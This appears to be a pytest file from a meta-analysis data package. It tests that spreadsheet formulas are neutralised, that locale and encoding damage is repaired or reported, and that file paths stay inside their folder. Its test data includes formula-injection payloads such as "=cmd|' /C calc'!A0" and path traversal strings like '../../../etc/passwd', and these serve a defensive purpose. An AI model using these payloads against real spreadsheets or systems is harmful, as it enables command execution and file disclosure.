"""What spreadsheets do to tables: formulas are made harmless, damage is mended or named."""

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from livingmeta import spreadsheets, tables

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("https://example.org?"&A1)',
    "-x",
    "-1(to)+A1",
]
HARMLESS = [
    "-0.35",
    "+1",
    "-1e-5",
    "-.5",
    "-12%",
    "-0.35 (-0.5 to -0.2)",
    "-1 [-2; 3]",
    "a=b",
    "'s",
    "",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_text(cell):
    assert spreadsheets.harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", HARMLESS)
def test_numbers_and_text_stay(cell):
    assert spreadsheets.harmless(cell) == cell


@given(st.text(alphabet="'=+-@\t\r\n0123.%(a ", max_size=8))
def test_what_was_made_harmless_is_read_back(cell):
    once = spreadsheets.harmless(cell)
    assert once[:1] not in ("=", "@", "\t", "\r", "\n")
    assert spreadsheets.plain(once) == cell
    assert spreadsheets.plain(spreadsheets.harmless(once)) == once


def test_a_table_holds_no_formula_and_is_read_back(tmp_path):
    reasons = ["=1+1", "'=1+1", "-0.3", "-2+cmd|' /C calc'!A0", "a"]
    table = pd.DataFrame({"synthesis": "s", "study_id": list("abcde"), "reason": reasons})
    cells = tables.empty("effects/unusable").columns.difference(table.columns)
    table = table.assign(**dict.fromkeys(cells, None) | {"unsettled": False, "empty": False})
    path = tmp_path / "unusable.csv"
    tables.write(table, path, "effects/unusable")
    assert path.read_text().splitlines()[1].startswith("s,a,'=1+1,false,")
    assert "\ns,c,-0.3,false," in path.read_text()
    assert tables.read(path, "effects/unusable")["reason"].tolist() == reasons


HEADER = (
    "study_id,outcome,arm,time,statistic,value,n,ci_low,ci_high,ci_level,p_value,unit,adjusted,"
    "source,quote,extractor,note\n"
)
ROW = 'a,os,none,12,survival,62.5,40,,,,,%,no,p. 3,"one, two",ab,\n'


def outcomes(tmp_path, content, encoding="utf-8"):
    path = tmp_path / "outcomes.csv"
    path.write_bytes(content if isinstance(content, bytes) else content.encode(encoding))
    return tables.read(path, "data/outcomes")


def german(text):
    """As a spreadsheet set to German saves it."""
    return text.replace('"one, two"', "one two").replace(",", ";").replace(".5", ",5")


@pytest.mark.parametrize(
    ("content", "encoding", "note"),
    [
        (german(HEADER + ROW), "utf-8-sig", "decimal commas"),
        ("sep=;\r\n" + german(HEADER + ROW).replace("\n", "\r\n"), "cp1252", "semicolons"),
        ((HEADER + ROW).replace("\n", ",,,\n"), "utf-8", None),
        (HEADER + ROW + "," * 16 + "\n" + "," * 20 + "\n", "utf-8", None),
        (HEADER.replace(",", "\t") + ROW.replace(",", "\t"), "utf-16", "UTF-16"),
        (HEADER + ROW.replace("p. 3", "p.\x0b3"), "utf-8", "control characters"),
        (HEADER + ROW.replace("62.5", "\u00a062.5\u00a0"), "utf-8", None),
    ],
    ids=["german", "sep", "empty columns", "empty rows", "utf-16", "soft break", "no-break space"],
)
def test_damage_that_can_be_mended_is(tmp_path, content, encoding, note):
    table = outcomes(tmp_path, content, encoding)
    assert table["value"].tolist() == [62.5]
    assert table["source"].tolist() == ["p. 3"]
    assert "" not in table
    assert note is None or note in " ".join(table.attrs["notes"])


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (HEADER + ROW.replace("62.5", '"62,5"'), "row 2, column value: '62,5'; .*perhaps 62.5"),
        (german(HEADER + ROW).replace("62,5", "1,234"), "perhaps 1.234 or 1234"),
        (HEADER + ROW.replace("62.5", "\u22120.5"), r"perhaps -0\.5"),
        (HEADER + ROW.replace("62.5", "1 234"), "perhaps 1234"),
        (HEADER + ROW.replace("62.5", "12-Feb"), "a spreadsheet has made a date of what"),
        (HEADER + ROW.replace("62.5", "Dec-24"), "a spreadsheet has made a date of what"),
        (HEADER + ROW.replace("62.5", "#####"), "row 2, column value: '#####'"),
        (HEADER + ROW.replace("62.5", "62.5%"), "62.5 here and % in the column unit"),
        (HEADER + ROW.replace(",40,,,,", ",40,,,95%,"), r"column ci_level: '95%'.*\(perhaps 95\)"),
        (
            HEADER + ROW.replace('"', "\u201d") + ROW,
            "row 2: 18 cells under 17 columns.*straight ones",
        ),
        (HEADER.replace("outcome,", "study_id,") + ROW, "'study_id' stands there twice"),
        (HEADER.replace("value", "valeu") + ROW, "'value' is missing .*; found 'valeu'"),
        ((HEADER + ROW).replace("p. 3", "p\x00 3"), r"row 2: bytes that are not text \(NUL\)"),
        (HEADER + ROW.replace("one, two", "x" * 40_000), "column quote.*40000 characters.*32767"),
        (HEADER + ROW + '"' + "x" * 10_000_000, "A quotation mark is probably left open"),
        (b"PK\x03\x04" + b"\x00" * 20, "this is a spreadsheet file"),
        (HEADER.replace("note", "note,") + ROW.replace("\n", ",x\n"), "18 cells under 17 columns"),
    ],
)
def test_damage_that_cannot_be_mended_is_named(tmp_path, content, says):
    with pytest.raises(tables.TableError, match=says) as caught:
        outcomes(tmp_path, content)
    assert all(len(problem) < 400 for problem in caught.value.problems)


def test_three_digits_after_a_comma_are_decimals_where_the_file_shows_it(tmp_path):
    table = outcomes(
        tmp_path, german(HEADER + ROW + ROW.replace("62.5", "x")).replace("x", "1,234")
    )
    assert table["value"].tolist() == [62.5, 1.234]
    with pytest.raises(
        tables.TableError, match=r"row 3, column value: '1\.234'; .*: write 1234 or 1,"
    ):
        outcomes(tmp_path, german(HEADER + ROW + ROW.replace("62.5", "1.234")))
    table = outcomes(
        tmp_path, german(HEADER + ROW.replace(",,,,,%", ",,,,<x,%")).replace("x", "0,01")
    )
    assert table["p_value"].tolist() == ["<0,01"]


@pytest.mark.parametrize(
    ("cell", "says"),
    [
        (",40,", "column n: '1.000'; it must be a whole number .perhaps 1000 or 1."),
        ("62.5", "column value: '1.23E.05'; .*a spreadsheet has shortened what was typed"),
        ("62.5", "column value: '٨'; .*perhaps 8"),
        ("62.5", "column value: '８.5'; .*perhaps 8.5"),
    ],
)
def test_a_number_that_may_be_another_is_refused(tmp_path, cell, says):
    bad = says.split("'")[1].replace("E.", "E+")
    bad = f",{bad}," if cell.startswith(",") else bad
    with pytest.raises(tables.TableError, match=says):
        outcomes(tmp_path, HEADER + ROW.replace(cell, bad))


def test_columns_are_found_whatever_their_case_blanks_and_hyphens(tmp_path):
    odd = HEADER.replace("study_id", "Study ID").replace(",n,", ",N,").replace("ci_low", "CI-low")
    table = outcomes(tmp_path, odd + ROW + odd + ROW.replace("62.5", "60"))
    assert table["study_id"].tolist() == ["a", "a"]
    assert table["n"].tolist() == [40, 40]
    capitals = (HEADER.title() + ROW).replace('"one, two"', "one").replace(",", ";")
    assert outcomes(tmp_path, capitals)["n"].tolist() == [40]
    assert "row 1: the column 'Study ID' read as study_id." in " ".join(table.attrs["notes"])
    # A further column near one that is there is carried along under its own name.
    both = outcomes(tmp_path, HEADER.replace("note", "note,notes") + ROW.replace("\n", ",y\n"))
    assert both[["note", "notes"]].iloc[0].tolist() == ["", "y"]


OWN = [
    *("site2", "followup_months_max", "adjusted_for", "level", "values", "unit2", "extractor2"),
    *("value2", "n2", "country_of_birth", "time_points"),
]


@pytest.mark.parametrize("name", ["data/studies", "data/outcomes"])
@pytest.mark.parametrize("own", OWN)
def test_a_column_of_ones_own_may_have_further_words_or_a_number(name, own):
    columns = tables.schema(name)["columns"]
    required = [column for column, rule in columns.items() if rule.get("required")]
    assert spreadsheets.near([*required, own], columns) == {}
    assert not list(spreadsheets.doubts([*required, own], columns))


def test_decimals_after_a_nought_are_no_thousands_and_thousands_prove_no_decimal_comma():
    assert spreadsheets.number("0,812") == ["0.812"]
    assert spreadsheets.number("-0,125") == ["-0.125"]
    assert spreadsheets.decimal_commas({"0,812", "1,234"}, "file")[0] == {
        "0,812": "0.812",
        "1,234": "1.234",
    }
    assert "1,234" not in spreadsheets.decimal_commas({"1,234", "1,234,567"}, "file")[0]


@pytest.mark.parametrize(
    ("there", "meant"), [("units", "unit"), ("CI_hi", "ci_high"), ("p values", "p_value")]
)
def test_a_column_nearly_called_as_one_that_is_absent_stops_the_run(tmp_path, there, meant):
    with pytest.raises(tables.TableError, match=f"row 1: '{there}'; did you mean .* '{meant}'"):
        outcomes(tmp_path, HEADER.replace(meant, there) + ROW)


CALLED = {
    "direction": ["Direction of scale", "scale_direction"],
    "part": ["subgroup", "Sub-group"],
    "p_value": ["p", "P"],
    "ci_low": ["lcl", "lower CI", "95% CI", "95% CI (lower)", "CI 95% lower limit"],
    "ci_high": ["ucl", "upper CI", "Upper 95% CI", "95% upper limit"],
    "sd": ["Standard deviation"],
    "n": ["No. of patients"],
}


@pytest.mark.parametrize(
    ("there", "meant"), [(there, meant) for meant, names in CALLED.items() for there in names]
)
def test_a_column_that_holds_our_words_by_another_name_stops_the_run(tmp_path, there, meant):
    known = meant in HEADER.strip().split(",")
    absent = HEADER.replace(f",{meant},", f",{there},") if known else f"{HEADER.strip()},{there}\n"
    line = ROW if known else f"{ROW.strip()},\n"
    with pytest.raises(tables.TableError) as caught:
        outcomes(tmp_path, absent + line)
    (said,) = caught.value.problems
    assert f"row 1: '{there}'; did you mean the column '{meant}'?" in said
    if known:  # beside the known one it is carried along
        outcomes(tmp_path, f"{HEADER.strip()},{there}\n{ROW.strip()},\n")


def test_the_names_that_a_column_may_be_called_by_are_of_it_alone():
    rules = tables.schema("data/outcomes")["columns"]
    called = [name for rule in rules.values() for name in rule.get("called", ())]
    assert len(called) == len(set(called))
    assert not set(called) & {spreadsheets.squeezed(name) for name in rules}


def test_a_further_column_called_row_is_not_overwritten(tmp_path):
    with pytest.raises(tables.TableError, match=r"row 1: 'row'; .* name it otherwise"):
        outcomes(tmp_path, f"{HEADER.strip()},row\n{ROW.strip()},7\n")


@pytest.mark.parametrize(
    ("day", "meant"),
    [
        ("2.1.2025", ["2025-01-02"]),
        ("2025/1/2", ["2025-01-02"]),
        ("13/01/2025", ["2025-01-13"]),
        ("01/13/2025", ["2025-01-13"]),
        ("02/01/2025", ["2025-01-02", "2025-02-01"]),
        ("2.1.25", []),
        ("2-Jan-2025", ["2025-01-02"]),
        ("13 March 2025", ["2025-03-13"]),
        ("31-Feb-2025", []),
        ("2-Jan-25", []),
        ("45659", []),
    ],
)
def test_a_date_in_another_order(day, meant):
    assert spreadsheets.date(day) == meant


@pytest.mark.parametrize(
    "name", ["../../../etc/passwd", "/etc/passwd", "a/../../b.ris", "c:\\x.ris"]
)
def test_a_search_names_a_file_below_its_folder(tmp_path, name):
    path = tmp_path / "searches.csv"
    header = "file,database,searched_on,strategy\n"
    path.write_text(header + f"{name},PubMed,2025-01-02,\nx..y/b.ris,PubMed,2025-01-02,{name}\n")
    with pytest.raises(tables.TableError) as caught:
        tables.read(path, "data/searches")
    assert [p.split(";")[0].split(", ", 1)[1] for p in caught.value.problems] == [
        f"row 2, column file: '{name}'",
        f"row 3, column strategy: '{name}'",
    ]


@pytest.mark.parametrize("separator", [";", "\t"])
def test_decimal_commas_are_read_where_no_comma_parts_the_cells(tmp_path, separator):
    row = ROW.strip().replace('"one, two"', "one two").split(",")
    at = HEADER.strip().split(",").index("value")
    text = [HEADER.strip().split(","), [*row[:at], "62,5", *row[at + 1 :]]]
    table = outcomes(tmp_path, "".join(f"{separator.join(cells)}\n" for cells in text))
    assert table["value"].tolist() == [62.5]


@pytest.mark.parametrize(
    ("cells", "separator", "asked"),
    [
        (("1.234", "200"), ";", "whether this file has decimal commas or points: write 1234 or"),
        (("1.2340", "200"), ";", ""),
        (("1.234", "20.5"), ";", ""),  # a point that only a decimal has
        (("1.234", "0.845"), ";", ""),
        (("1.234", "20,5"), ";", "have decimal commas: write 1234 or 1,234"),
        (("1.234", "200"), "\t", ""),
    ],
)
def test_a_point_of_a_file_of_semicolons_may_part_thousands(tmp_path, cells, separator, asked):
    row = ROW.strip().replace('"one, two"', "one two").split(",")
    at = HEADER.strip().split(",").index("value")
    rows = [HEADER.strip().split(",")]
    rows += [[*row[:at], cell, *row[at + 1 :]] for cell in cells]
    text = "".join(f"{separator.join(cells)}\n" for cells in rows)
    if asked:
        with pytest.raises(tables.TableError, match=asked):
            outcomes(tmp_path, text)
    else:
        assert outcomes(tmp_path, text)["value"].iloc[0] == 1.234


def test_a_raised_point_is_a_decimal_point(tmp_path):
    row = ROW.strip().split(",")
    text = HEADER + ROW.replace(row[HEADER.split(",").index("value")], "20·5", 1)
    assert outcomes(tmp_path, text)["value"].tolist() == [20.5]
    assert spreadsheets.number("20·5") == spreadsheets.number("20 • 5") == ["20.5"]
